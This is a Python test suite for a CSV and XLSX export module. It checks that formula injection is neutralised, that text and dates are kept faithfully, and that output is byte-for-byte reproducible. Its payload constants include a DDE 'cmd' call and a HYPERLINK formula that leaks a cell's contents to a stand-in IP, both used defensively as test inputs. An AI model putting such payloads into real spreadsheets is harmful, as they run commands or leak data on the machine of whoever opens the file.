"""What leaves as CSV or XLSX: no formula survives, no text is lost, and equal frames give equal bytes."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal
from itertools import product
from xml.etree import ElementTree as ET

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from talent import export
from talent.export import protect, restore, to_csv, to_xlsx

NIP = "198503152010011005"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SIGNS = "=+-@＝＋－＠"
LEADS = ("", " ", "  ", '"', "'", "“", "\xa0", "\u200b", "\ufeff", "\t", "\r", "\n", "\0", ' "', "x;", "x\n")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
    "SUM(A1:A9)*1",
)
PAYLOADS = ["".join(parts) for parts in product(LEADS, SIGNS, BODIES)]
# Pieces from which Hypothesis builds texts that nobody thought of.
PIECES = st.lists(st.sampled_from([*SIGNS, *LEADS, "'", '"', ",", ";", "\r\n", "a", "sep=", "<r>", "</r>"]))
TEXTS = st.one_of(st.text(), PIECES.map("".join))


def fields(content, delimiter=","):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def begins_like_a_formula(text):
    """By another way than the engine's: whatever is no letter, digit or sign is peeled off the front."""
    if text[:1] in {"\t", "\r", "\n", "\0"} and text:
        return True
    bare = text.lstrip("".join(map(chr, range(33))) + "\x7f\xa0\u200b\ufeff\"“'")
    return bare[:1] in set(SIGNS) and bool(bare) and not text.startswith("'")


def sheets(content):
    """XML of each sheet, in order."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [book.read(name).decode() for name in sorted(names)]


def part(content, name):
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return ET.fromstring(book.read(name))  # noqa: S314 - written a moment ago


def unescaped(text):
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def shared(content):
    """Texts of the workbook, as a spreadsheet would show them."""
    items = part(content, "xl/sharedStrings.xml").iter(f"{MAIN}si")
    return [unescaped("".join(run.text or "" for run in item.iter(f"{MAIN}t"))) for item in items]


def cells(content, sheet=1):
    """Address → (type, style, value) of every cell that holds something."""
    found = part(content, f"xl/worksheets/sheet{sheet}.xml").iter(f"{MAIN}c")
    return {
        cell.get("r"): (cell.get("t"), int(cell.get("s", 0)), cell.findtext(f"{MAIN}v"))
        for cell in found
        if len(cell)
    }


def number_format(content, style):
    styles = part(content, "xl/styles.xml")
    form = styles.find(f"{MAIN}cellXfs")[style].get("numFmtId")
    own = {one.get("numFmtId"): one.get("formatCode") for one in styles.iter(f"{MAIN}numFmt")}
    return own.get(form, {"49": "@", "0": "General"}.get(form))


def names(content):
    return [sheet.get("name") for sheet in part(content, "xl/workbook.xml").iter(f"{MAIN}sheet")]


def column(*values, dtype=None):
    return pd.DataFrame({"value": pd.Series(list(values), dtype=dtype)})


# ---- no formula survives


def test_there_are_five_hundred_payloads():
    assert len(set(PAYLOADS)) >= 500


def test_no_field_of_a_csv_begins_like_a_formula():
    rows = fields(to_csv(column(*PAYLOADS)))
    assert len(rows) == len(PAYLOADS) + 1
    assert [field for row in rows for field in row if begins_like_a_formula(field)] == []


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_no_field_begins_like_a_formula_where_another_separator_is_usual(delimiter):
    content = to_csv(pd.DataFrame({"first": "a", "value": PAYLOADS, "last": "b"}))
    rows = [row for line in content.decode("utf-8-sig").splitlines() for row in line.split(delimiter)]
    assert [field for field in rows if begins_like_a_formula(field.strip('"'))] == []


def test_column_names_are_protected_like_values():
    frame = pd.DataFrame([range(len(PAYLOADS))], columns=PAYLOADS)
    heading = fields(to_csv(frame))[0]
    assert [name for name in heading if begins_like_a_formula(name)] == []
    assert [restore(name) for name in heading] == PAYLOADS


def test_no_cell_of_a_workbook_is_a_formula():
    content = to_xlsx({"payloads": pd.DataFrame({"=1+1": PAYLOADS})})
    assert not re.search(r"<f[ >/]", sheets(content)[0])
    assert {kind for kind, _, _ in cells(content).values()} == {"s"}


def test_a_workbook_keeps_every_text_whole():
    assert shared(to_xlsx({"payloads": column(*PAYLOADS)}))[1:] == list(dict.fromkeys(PAYLOADS))


def test_a_workbook_holds_no_link():
    content = to_xlsx({"links": column("http://192.0.2.1", "mailto:a@b.id", "internal:A1")})
    assert "hyperlink" not in sheets(content)[0]
    assert not any("rels/sheet" in name for name in zipfile.ZipFile(io.BytesIO(content)).namelist())


@pytest.mark.parametrize("text", ["<r><t>x</t></r>", "<r></si><f>1</f></r>", "<r></r>", "<r>&</r>"])
def test_a_text_that_looks_like_xml_of_a_workbook_stays_text(text):
    content = to_xlsx({"xml": column(text)})
    assert shared(content) == ["value", text]
    assert cells(content)["A2"][0] == "s"


def test_another_reader_sees_the_same_texts():
    content = to_xlsx({"payloads": column(*(text for text in PAYLOADS if text.isprintable()))})
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in rows[1:]] == [text for text in PAYLOADS if text.isprintable()]


@given(TEXTS)
def test_whatever_the_text_no_field_begins_like_a_formula(text):
    (_, *rows) = fields(to_csv(pd.DataFrame({"value": pd.Series([text], dtype=object), "last": "end"})))
    assert not begins_like_a_formula(rows[0][0])


@given(TEXTS.filter(lambda text: not re.search("[\ud800-\udfff\ufffe\uffff]", text)))
def test_whatever_the_text_a_cell_holds_it_as_text(text):
    content = to_xlsx({"one": column(text, dtype=object)})
    assert not re.search(r"<f[ >/]", sheets(content)[0])
    # XML reads CR as LF unless it is escaped; XlsxWriter escapes what looks like an escape.
    assert shared(content)[1:] == ([text] if text not in {"", "value"} else [])


# ---- protect and restore


@pytest.mark.parametrize(
    "text", ["", "Budi, S.Kom.", "A-1", "3 = 3", "O'Neil", "'n Naam", '"baik"', "?x", "a;b"]
)
def test_a_harmless_text_is_unchanged(text):
    assert protect(text) == restore(text) == text


def test_a_phone_number_is_only_prefixed():
    assert protect("+6281234567890") == "'+6281234567890"


def test_a_line_end_is_not_torn_apart():
    assert protect("a\r\n- b") == "a\r\n'- b"


def test_a_first_line_cannot_choose_the_separator():
    assert fields(to_csv(pd.DataFrame({"SEP=|": ["x|y"]})))[0] == ["'SEP=|"]


def test_restore_takes_exactly_one_apostrophe():
    assert restore("''=1+1") == "'=1+1"


@given(TEXTS)
def test_restore_undoes_protect(text):
    assert restore(protect(text)) == text


@given(TEXTS)
def test_protecting_only_adds_apostrophes(text):
    assert protect(text).replace("'", "") == text.replace("'", "")


def test_a_long_text_is_protected_in_a_moment():
    text = " '" * 50_000 + ";" * 50_000
    assert protect(text) == text


def test_a_csv_that_was_corrected_can_be_read_again():
    frame = pd.DataFrame({"nip": [NIP], "name": ["=Budi"], "phone": ["+6281234567890"], "note": ["'-; -"]})
    read = pd.read_csv(io.BytesIO(to_csv(frame)), dtype="str", keep_default_na=False)
    pd.testing.assert_frame_equal(read.map(restore).rename(columns=restore), frame)


# ---- what a CSV looks like


def test_a_csv_begins_with_a_mark_and_ends_lines_for_spreadsheets():
    assert to_csv(column("Sé", "b")) == b"\xef\xbb\xbfvalue\r\nS\xc3\xa9\r\nb\r\n"


def test_numbers_are_not_touched():
    frame = pd.DataFrame({"a": [-1, 2], "b": [-0.5, 1e-7], "c": pd.array([-3, None], dtype="Int64")})
    assert fields(to_csv(frame)) == [["a", "b", "c"], ["-1", "-0.5", "-3"], ["2", "1e-07", ""]]


def test_numbers_among_texts_are_not_touched():
    assert fields(to_csv(column(-1, "-1", -1.5, Decimal("-2.5"), np.int64(-4), dtype=object)))[1:] == [
        ["-1"],
        ["'-1"],
        ["-1.5"],
        ["-2.5"],
        ["-4"],
    ]


def test_missing_is_empty_and_the_words_for_it_stay():
    frame = pd.DataFrame({"a": [None, "NA", "None"], "b": [pd.NaT, pd.Timestamp("2025-12-01"), pd.NaT]})
    assert fields(to_csv(frame))[1:] == [["", ""], ["NA", "2025-12-01"], ["None", ""]]


def test_dates_are_iso():
    stamps = pd.to_datetime(["2025-12-01 08:30", "2025-12-02 00:00"])
    days = [date(1899, 12, 31), date(2025, 1, 2)]
    rows = fields(to_csv(pd.DataFrame({"stamp": stamps, "day": days})))
    assert rows[1:] == [["2025-12-01T08:30:00", "1899-12-31"], ["2025-12-02T00:00:00", "2025-01-02"]]


def test_a_stamp_with_a_zone_keeps_it():
    assert fields(to_csv(column(datetime(2025, 12, 1, tzinfo=UTC))))[1] == ["2025-12-01T00:00:00+00:00"]


@pytest.mark.parametrize("dtype", ["bool", "boolean", "object", "category"])
def test_flags_are_words(dtype):
    assert fields(to_csv(column(True, False, dtype=dtype)))[1:] == [["true"], ["false"]]


def test_what_is_no_text_is_protected_when_it_reads_like_one():
    assert fields(to_csv(column(pd.Timedelta(days=-1), dtype=object)))[1] == ["'-1 days +00:00:00"]


@pytest.mark.parametrize("dtype", ["str", "object", "category", "string[pyarrow]", "string[python]"])
def test_texts_of_every_dtype_are_protected(dtype):
    assert fields(to_csv(column("=1", "b", dtype=dtype)))[1:] == [["'=1"], ["b"]]


def test_columns_of_the_same_name_are_both_written():
    frame = pd.DataFrame([["=a", 1]], columns=["x", "x"])
    assert fields(to_csv(frame)) == [["x", "x"], ["'=a", "1"]]


def test_half_a_character_is_replaced():
    assert fields(to_csv(column("a\ud800b", dtype=object)))[1] == ["a\ufffdb"]
    assert shared(to_xlsx({"a": column("a\ud800b", dtype=object)}))[1] == "a\ufffdb"


@pytest.mark.parametrize("frame", [pd.DataFrame(), pd.DataFrame({"a": []}), pd.DataFrame(index=[1, 2])])
def test_an_empty_frame_can_be_written(frame):
    assert to_csv(frame).startswith(b"\xef\xbb\xbf")
    assert names(to_xlsx({"empty": frame})) == ["empty"]


# ---- what a workbook looks like


def test_ids_stay_text_also_when_somebody_edits_them():
    content = to_xlsx({"ids": column(NIP)})
    kind, style, _ = cells(content)["A2"]
    assert (kind, number_format(content, style)) == ("s", "@")
    assert shared(content)[1] == NIP


def test_a_whole_number_too_long_for_a_cell_becomes_text():
    content = to_xlsx({"ids": column(int(NIP), 10**15 - 1)})
    assert shared(content)[1] == NIP
    assert cells(content)["A3"] == (None, 0, "999999999999999")


def test_numbers_are_numbers_and_missing_is_no_cell():
    content = to_xlsx({"n": column(-1.5, None, 2)})
    assert {place: cell[2] for place, cell in cells(content).items()} == {"A1": "0", "A2": "-1.5", "A4": "2"}


def test_an_infinite_number_is_text():
    assert shared(to_xlsx({"n": column(np.inf, -np.inf)}))[1:] == ["inf", "-inf"]


@pytest.mark.parametrize("day", [date(2025, 12, 1), pd.Timestamp("2025-12-01"), datetime(2025, 12, 1)])  # noqa: DTZ001
def test_dates_are_date_cells(day):
    content = to_xlsx({"d": column(day)})
    kind, style, value = cells(content)["A2"]
    assert (kind, number_format(content, style), float(value)) == (None, "yyyy-mm-dd", 45992)


def test_a_stamp_shows_its_time():
    content = to_xlsx({"d": column(pd.Timestamp("2025-12-01 12:00"))})
    _, style, value = cells(content)["A2"]
    assert (number_format(content, style), float(value)) == ("yyyy-mm-dd hh:mm:ss", 45992.5)


def test_days_on_which_spreadsheets_differ_are_text():
    content = to_xlsx({"d": column(date(1900, 2, 28), date(1900, 3, 1), time(8, 30), dtype=object)})
    assert shared(content)[1:] == ["1900-02-28", "08:30:00"]
    assert cells(content)["A3"][2] == "61"


def test_flags_are_boolean_cells():
    found = cells(to_xlsx({"f": column(True, False, None, dtype="boolean")}))
    assert {place: (cell[0], cell[2]) for place, cell in found.items() if place != "A1"} == {
        "A2": ("b", "1"),
        "A3": ("b", "0"),
    }


def test_the_heading_is_bold_frozen_and_filtered():
    content = to_xlsx({"h": pd.DataFrame({"a": [1, 2], "b": [3, 4]})})
    assert '<pane ySplit="1" topLeftCell="A2"' in sheets(content)[0]
    assert '<autoFilter ref="A1:B3"/>' in sheets(content)[0]
    styles = part(content, "xl/styles.xml")
    font = int(styles.find(f"{MAIN}cellXfs")[cells(content)["A1"][1]].get("fontId"))
    assert styles.find(f"{MAIN}fonts")[font].find(f"{MAIN}b") is not None


def test_columns_are_as_wide_as_what_they_hold_up_to_a_limit():
    frame = pd.DataFrame({"a": ["x" * 20], "b": ["y" * 500], "c": [1 / 3]})
    shown = ET.fromstring(sheets(to_xlsx({"w": frame}))[0]).iter(f"{MAIN}col")  # noqa: S314
    assert [round(float(one.get("width"))) for one in shown] == [23, 61, 15]
    without = ET.fromstring(sheets(to_xlsx({"w": frame}, widths=False))[0]).iter(f"{MAIN}col")  # noqa: S314
    assert all(float(one.get("width")) < 10 for one in without)


@pytest.mark.parametrize(
    ("given_names", "expected"),
    [
        (["a/b[1]:*?\\c"], ["a b 1 c"]),
        (["x" * 40], ["x" * 31]),
        (["Talent", "talent", "TALENT"], ["Talent", "talent (2)", "TALENT (3)"]),
        (["y" * 31, "y" * 32], ["y" * 31, "y" * 27 + " (2)"]),
        (["'a'", "", "History", "::"], ["a", "Sheet", "History (2)", "Sheet (2)"]),
        (["😀" * 20], ["😀" * 15]),
    ],
)
def test_sheet_names_are_made_fit(given_names, expected):
    assert names(to_xlsx(dict.fromkeys(given_names, column(1)))) == expected


@given(st.lists(st.text(max_size=40), unique=True, min_size=1, max_size=6))
def test_whatever_the_names_every_frame_has_its_sheet(given_names):
    found = names(to_xlsx(dict.fromkeys(given_names, column(1))))
    assert len({name.lower() for name in found}) == len(given_names)


def test_a_frame_too_long_for_a_sheet_goes_on_in_the_next(monkeypatch):
    monkeypatch.setattr(export, "MOST_ROWS", 2)
    content = to_xlsx({"staff": column(*"abcde"), "staff (2)": column("f")})
    assert names(content) == ["staff", "staff (2)", "staff (3)", "staff (2) (2)"]
    books = CalamineWorkbook.from_filelike(io.BytesIO(content))
    read = [[row[0] for row in books.get_sheet_by_index(place).to_python()] for place in range(4)]
    assert read == [["value", "a", "b"], ["value", "c", "d"], ["value", "e"], ["value", "f"]]


def test_the_rows_of_a_sheet_and_its_heading_fill_what_a_sheet_has():
    assert export.MOST_ROWS + 1 == 2**20


# ---- what is refused, and how files come to be


def test_a_text_too_long_for_a_cell_is_refused_by_row_and_column(tmp_path):
    frame = pd.DataFrame({"note": ["x" * 32_767, "y", "z" * 32_768]})
    with pytest.raises(ValueError, match=r"sheet 'a', row 4, column 'note' has 32,768 characters of at most"):
        to_xlsx({"a": frame}, tmp_path / "a.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_characters_are_counted_as_spreadsheets_count_them():
    with pytest.raises(ValueError, match="has 40,000 characters"):
        to_xlsx({"a": column("😀" * 20_000)})


def test_all_texts_that_are_too_long_are_named_at_once():
    with pytest.raises(ValueError, match=r"row 1, column 1 has .*; sheet 'b', row 2, column 'value' has "):
        to_xlsx({"a": pd.DataFrame({"h" * 33_000: [1]}), "b": column("v" * 33_000)})


def test_more_columns_than_a_sheet_has_are_refused():
    with pytest.raises(ValueError, match="sheet 'wide' has 16,385 columns of at most 16,384"):
        to_xlsx({"wide": pd.DataFrame(np.zeros((1, 16_385)))})


def test_equal_frames_give_equal_bytes():
    frame = pd.DataFrame({"a": ["=x", None], "b": [1.5, 2], "d": pd.to_datetime(["2025-12-01", None])})
    assert to_csv(frame) == to_csv(frame.copy())
    assert to_xlsx({"a": frame}) == to_xlsx({"a": frame.copy()})
    core = part(to_xlsx({"a": frame}), "docProps/core.xml")
    assert {one.text for one in core if one.text} == {"2000-01-01T00:00:00Z"}


def test_the_frame_is_not_changed():
    frame = pd.DataFrame({"a": ["=x", None], "b": pd.Categorical(["-1", "y"])}, index=[5, 5])
    before = frame.copy(deep=True)
    to_csv(frame)
    to_xlsx({"a": frame})
    pd.testing.assert_frame_equal(frame, before)


@pytest.mark.parametrize("write", [to_csv, lambda frame, target: to_xlsx({"a": frame}, target)])
def test_file_stream_and_result_hold_the_same(write, tmp_path):
    file, stream = tmp_path / "new" / "a.bin", io.BytesIO()
    content = write(column("=1"), file)
    assert write(column("=1"), stream) == content == file.read_bytes() == stream.getvalue()
    assert [one.name for one in file.parent.iterdir()] == ["a.bin"]


def test_a_file_is_replaced_whole_or_not_at_all(tmp_path, monkeypatch):
    file = tmp_path / "a.csv"
    file.write_bytes(b"old")

    def full(_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "fsync", full)
    with pytest.raises(OSError, match="No space left"):
        to_csv(column("new"), file)
    assert [(one.name, one.read_bytes()) for one in tmp_path.iterdir()] == [("a.csv", b"old")]
